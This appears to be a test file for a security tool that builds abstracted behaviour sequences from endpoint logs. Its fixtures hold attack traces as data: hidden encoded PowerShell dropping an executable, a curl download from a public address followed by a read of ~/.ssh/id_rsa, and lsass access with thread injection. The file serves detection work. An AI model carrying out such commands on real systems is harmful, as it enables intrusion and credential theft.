import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildSequences, type BehaviourSequence } from '../../src/provenance/index.js';
import type { NormalizedEvent } from '../../src/logs/event.js';
import { scenarioEvents } from './scenario.js';

function byImage(seqs: BehaviourSequence[], image: RegExp, window = 0): BehaviourSequence {
  const found = seqs.filter((s) => image.test(s.process.image) && s.window === window);
  assert.equal(found.length, 1, `one sequence for ${image}`);
  return found[0]!;
}

test('the PowerShell stage: header, command line and actions abstracted as specified', async () => {
  const seqs = await buildSequences(scenarioEvents());
  const ps = byImage(seqs, /powershell\.exe$/i);
  assert.deepEqual(ps.tokens, [
    'proc:powershell.exe',
    'parent:wscript.exe',
    'user:user',
    'integrity:medium',
    'cmd:-nop',
    'cmd:-w',
    'cmd:hidden',
    'cmd:-enc',
    'cmd:<b64>',
    'dns:<rand>.example',
    'connect:public:443',
    'create:%TEMP%\\<rand>.exe',
    'spawn:<rand>.exe',
  ]);
  assert.equal(ps.process.parentImage, 'C:\\Windows\\System32\\wscript.exe');
  assert.equal(ps.process.key, 'proc:g:{4a1b2c3d-0014-65e6-0000-0010a1b2c3d4}');
  assert.equal(ps.actions.length, 6, 'all three connections are actions; the tokens keep the first');
  assert.deepEqual(
    ps.actions.map((a) => a.kind),
    ['dns_query', 'network_connect', 'network_connect', 'network_connect', 'file_create', 'process_create'],
  );
  assert.match(ps.text, /^powershell\.exe ← wscript\.exe: powershell\.exe -nop/);
  assert.match(ps.text, /connect public:443 ×3; create %TEMP%\\<rand>\.exe; spawn <rand>\.exe$/);
  // its evidence: the creation record and every action's record
  assert.equal(ps.events.length, 7);
  assert.equal(ps.events[0]!.record, 1013);
  assert.ok(ps.events.every((e) => /office-macro-scenario\.jsonl$/.test(e.file)));
});

test('paths, registry and addresses are abstracted: user profile, temp, system32, random names, SIDs, IP classes', async () => {
  const seqs = await buildSequences(scenarioEvents());
  const word = byImage(seqs, /winword\.exe$/i);
  assert.ok(word.tokens.includes('cmd:%USERPROFILE%\\downloads\\invoice.docm'));
  assert.ok(word.tokens.includes('create:%TEMP%\\<rand>.js'));
  assert.ok(word.tokens.includes('load:%PROGRAMFILES%\\common files\\microsoft shared\\vba\\vba7.1\\vbe7.dll'));
  const dropped = byImage(seqs, /x7f3kq9\.exe$/i);
  assert.equal(dropped.tokens[0], 'proc:<rand>.exe');
  assert.ok(dropped.tokens.includes('regset:HKU\\<sid>\\software\\microsoft\\windows\\currentversion\\run\\<rand>'));
  const svchost = byImage(seqs, /svchost\.exe$/i);
  assert.deepEqual(svchost.tokens, ['proc:svchost.exe', 'user:system', 'create:%SYSTEM32%\\tasks\\winupdatecheck', 'connect:private:53']);
  const outlook = byImage(seqs, /outlook\.exe$/i);
  assert.ok(outlook.tokens.includes('connect:private:443'));
  // no token of any sequence leaks the user name, the SID or an address
  const all = seqs.flatMap((s) => s.tokens).join(' ');
  assert.doesNotMatch(all, /alice|S-1-5-21|203\.0\.113|10\.20\.0/i);
  // hostile file names cannot smuggle control characters into tokens or text
  assert.ok(seqs.every((s) => s.tokens.every((t) => !/[\x00-\x1f]/.test(t)) && !/[\x00-\x1f]/.test(s.text)));
});

test('sequences are deterministic, whatever the order events arrive in', async () => {
  const events = scenarioEvents();
  const a = await buildSequences(events);
  const b = await buildSequences([...events].reverse());
  const view = (s: BehaviourSequence[]) => s.map((x) => ({ id: x.id, tokens: x.tokens, text: x.text, start: x.start, end: x.end }));
  assert.deepEqual(view(b), view(a));
  assert.deepEqual(view(await buildSequences(events)), view(a));
  // ordered by start time
  for (let i = 1; i < a.length; i++) assert.ok(a[i - 1]!.start <= a[i]!.start);
});

test('long-lived processes are cut into windows by time span and by number of actions', async () => {
  const seqs = await buildSequences(scenarioEvents());
  // Chrome's last connection comes 30 minutes after the others: a second window
  const chrome0 = byImage(seqs, /chrome\.exe$/i, 0);
  const chrome1 = byImage(seqs, /chrome\.exe$/i, 1);
  assert.equal(chrome1.id, chrome0.id.replace(/\|0$/, '|1'));
  assert.deepEqual(chrome1.tokens.slice(-1), ['connect:public:443']);
  assert.ok(chrome1.start > chrome0.end);
  assert.equal(chrome1.events.length, 1, 'the creation record belongs to window 0 only');

  const small = await buildSequences(scenarioEvents(), { maxActions: 2 });
  const psWindows = small.filter((s) => /powershell\.exe$/i.test(s.process.image));
  assert.deepEqual(psWindows.map((s) => s.actions.length), [2, 2, 2]);
  assert.deepEqual(psWindows.map((s) => s.window), [0, 1, 2]);
  assert.ok(psWindows.every((s) => s.tokens[0] === 'proc:powershell.exe'), 'every window carries the process header');
});

test('Linux processes: home directories, /tmp, loopback and public addresses', async () => {
  const base = { host: 'web01', raw: {}, provider: 'auditd' };
  let line = 0;
  const ev = (time: number, kind: NormalizedEvent['kind'], subject: NormalizedEvent['subject'], object?: NormalizedEvent['object']): NormalizedEvent => ({
    ...base,
    time,
    kind,
    subject,
    object,
    source: { file: 'audit.log', line: ++line },
  });
  const bash = { pid: 2000, image: '/usr/bin/bash', user: 'bob' };
  const curl = { pid: 2001, image: '/usr/bin/curl', commandLine: 'curl -s http://198.51.100.7:8080/p -o /tmp/kq8z3xw1', user: 'bob', parent: bash };
  const seqs = await buildSequences([
    ev(1000, 'process_create', curl),
    ev(1001, 'network_connect', { pid: 2001, image: '/usr/bin/curl' }, { network: { remoteAddress: '198.51.100.7', remotePort: 8080 } }),
    ev(1002, 'file_write', { pid: 2001, image: '/usr/bin/curl' }, { file: { path: '/tmp/kq8z3xw1' } }),
    ev(1003, 'file_read', { pid: 2001, image: '/usr/bin/curl' }, { file: { path: '/home/bob/.ssh/id_rsa' } }),
    ev(1004, 'network_connect', { pid: 2001, image: '/usr/bin/curl' }, { network: { remoteAddress: '::1', remotePort: 6379 } }),
    ev(1005, 'process_exit', { pid: 2001 }),
  ]);
  const c = byImage(seqs, /curl$/);
  assert.deepEqual(c.tokens, [
    'proc:curl',
    'parent:bash',
    'user:user',
    'cmd:-s',
    'cmd:url:http:public',
    'cmd:-o',
    'cmd:/tmp/<rand>',
    'connect:public:8080',
    'write:/tmp/<rand>',
    'read:~/.ssh/id_rsa',
    'connect:loopback:6379',
  ]);
  assert.equal(c.text, 'curl ← bash: curl -s http://198.51.100.7:8080/p -o /tmp/kq8z3xw1 | connect public:8080; write /tmp/<rand>; read ~/.ssh/id_rsa; connect loopback:6379');
});

test('process access carries the target and the rights asked for; remote threads the target', async () => {
  const mk = (kind: NormalizedEvent['kind'], raw: Record<string, unknown>, line: number): NormalizedEvent => ({
    time: 1000 + line,
    host: 'ws',
    kind,
    subject: { pid: 10, guid: '{aa}', image: 'C:\\Users\\bob\\Desktop\\m1m1.exe' },
    object: { process: { pid: 600, guid: '{bb}', image: 'C:\\Windows\\system32\\lsass.exe' } },
    raw,
    source: { file: 'x.jsonl', line },
  });
  const [s] = await buildSequences([mk('process_access', { GrantedAccess: '0x00001010' }, 1), mk('remote_thread', {}, 2), mk('process_access', { GrantedAccess: 'bogus' }, 3)]);
  assert.deepEqual(s!.tokens, ['proc:m1m1.exe', 'access:lsass.exe:0x1010', 'inject:lsass.exe', 'access:lsass.exe']);
});
